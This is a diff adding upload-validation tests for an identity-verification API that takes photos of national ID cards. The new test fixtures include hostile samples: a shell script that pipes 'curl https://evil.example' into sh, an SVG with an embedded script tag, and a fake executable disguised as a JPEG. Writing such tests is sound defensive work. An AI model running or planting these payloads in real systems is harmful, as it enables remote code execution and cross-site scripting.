@@ -4,13 +4,13 @@
  * at rest and never logged, and the status the player reads.
  */
 import { PassThrough } from 'node:stream';
-import { identityMessages } from 'shared/identity';
+import { identityMessages, MAX_IDENTITY_PHOTO_BYTES } from 'shared/identity';
 import { nicMessages } from 'shared/nic';
 import { describeEachDatabase } from './support/database';
-import { identityState, nicOf, oldNicOf, submitIdentity, type Submission } from './support/identity';
-import { cardPhoto } from './support/identity-photos';
+import { IDENTITY, identityState, multipart, nicOf, oldNicOf, submitIdentity, type Submission } from './support/identity';
+import { cardPhoto, pngBytes } from './support/identity-photos';
 import { signedInOperator } from './support/payouts';
-import { startStack, type TestStack } from './support/test-apps';
+import { bearer, startStack, type TestStack } from './support/test-apps';
 import { signedInPlayer, type SignedInPlayer } from './support/withdrawals';
 
 const DATE_OF_BIRTH = '1995-06-15';
@@ -143,5 +143,65 @@ describeEachDatabase('identity verification: the player submits', (context) => {
     expect((await identityState(stack.api, operator.token, operator.id)).statusCode).toBe(403);
     const { rows } = await context.db.query<{ n: number }>('SELECT count(*)::int AS n FROM identity_verifications WHERE player_id = ANY($1)', [[player.id, other.id]]);
     expect(rows[0]!.n).toBe(0);
+  });
+
+  describe('the photos, judged by their content', () => {
+    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(200, 0x90)]);
+    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n');
+    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
+
+    it.each([
+      ['an executable named front.jpg', elf, 'front.jpg', 'image/jpeg'],
+      ['a shell script named front.png', script, 'front.png', 'image/png'],
+      ['an SVG with a script', svg, 'front.webp', 'image/webp'],
+      ['a PNG cut short', pngBytes().subarray(0, 60), 'front.png', 'image/png'],
+    ])('refuses %s with a clear message, storing nothing', async (_what, bytes, filename, type) => {
+      const player = await newPlayer();
+      const response = await submit(player, { front: cardPhoto(bytes, filename, type) });
+      expect(response.statusCode).toBe(400);
+      expect(response.json()).toMatchObject({ status: false, error_code: 'INVALID_PHOTO', message: expect.stringMatching(/^Front of the NIC: /) });
+      expect((await identityState(stack.api, player.token, player.id)).json().content.status).toBe('not_verified');
+    });
+
+    it('refuses a photo over 5 MB while reading it (413), and takes one of exactly 5 MB', async () => {
+      const player = await newPlayer();
+      const image = pngBytes();
+      const atLimit = Buffer.concat([image, Buffer.alloc(MAX_IDENTITY_PHOTO_BYTES - image.length, 0x41)]);
+      const over = Buffer.concat([atLimit, Buffer.from('A')]);
+      const response = await submit(player, { front: cardPhoto(over) });
+      expect(response.statusCode).toBe(413);
+      expect(response.json()).toMatchObject({ status: false, message: identityMessages.photoTooLarge });
+      expect((await identityState(stack.api, player.token, player.id)).json().content.status).toBe('not_verified');
+      // At the limit the size passes; what follows the image's end is dropped.
+      const taken = await submit(player, { front: cardPhoto(atLimit) });
+      expect(taken.statusCode).toBe(200);
+      const { rows } = await context.db.query<{ size: number }>('SELECT octet_length(front_photo_sealed) AS size FROM identity_verifications WHERE player_id = $1', [player.id]);
+      expect(rows[0]!.size).toBeLessThan(image.length + 64);
+    });
+
+    it.each([
+      ['a missing back photo', { nicFront: cardPhoto() }, `nicBack: ${identityMessages.backRequired}`, 400],
+      ['text where a photo goes', { nicFront: 'not a file', nicBack: cardPhoto() }, `nicFront: ${identityMessages.frontRequired}`, 400],
+      ['a third photo', { nicFront: cardPhoto(), nicBack: [cardPhoto(), cardPhoto()] }, 'Send two photos at most: the front and the back of the NIC.', 413],
+    ])('refuses %s', async (_what, files, message, statusCode) => {
+      const player = await newPlayer();
+      const { payload, contentType } = await multipart({ uuid: player.id, nic: nicOf(DATE_OF_BIRTH), nicFullName: 'Nimal Perera', ...files });
+      const response = await stack.api.inject({ method: 'POST', url: IDENTITY, headers: { ...bearer(player.token), 'content-type': contentType }, payload });
+      expect([response.statusCode, response.json().message]).toEqual([statusCode, message]);
+    });
+
+    it('answers a broken or truncated form, or JSON, with a 400, never a 500', async () => {
+      const player = await newPlayer();
+      const { payload, contentType } = await multipart({ uuid: player.id, nic: nicOf(DATE_OF_BIRTH), nicFullName: 'Nimal Perera', nicFront: cardPhoto(), nicBack: cardPhoto() });
+      const cut = await stack.api.inject({ method: 'POST', url: IDENTITY, headers: { ...bearer(player.token), 'content-type': contentType }, payload: payload.subarray(0, payload.length - 100) });
+      const noBoundary = await stack.api.inject({ method: 'POST', url: IDENTITY, headers: { ...bearer(player.token), 'content-type': 'multipart/form-data' }, payload });
+      const json = await stack.api.inject({ method: 'POST', url: IDENTITY, headers: bearer(player.token), payload: { uuid: player.id, nic: nicOf(DATE_OF_BIRTH), nicFullName: 'Nimal Perera', nicFront: 'AAAA', nicBack: 'AAAA' } });
+      for (const response of [cut, noBoundary, json]) {
+        expect(response.statusCode).toBe(400);
+        expect(response.json()).toMatchObject({ status: false, error_code: expect.any(String), message: expect.any(String) });
+      }
+      expect(json.json().message).toBe(`nicFront: ${identityMessages.frontRequired}`);
+      expect((await identityState(stack.api, player.token, player.id)).json().content.status).toBe('not_verified');
+    });
   });
 });
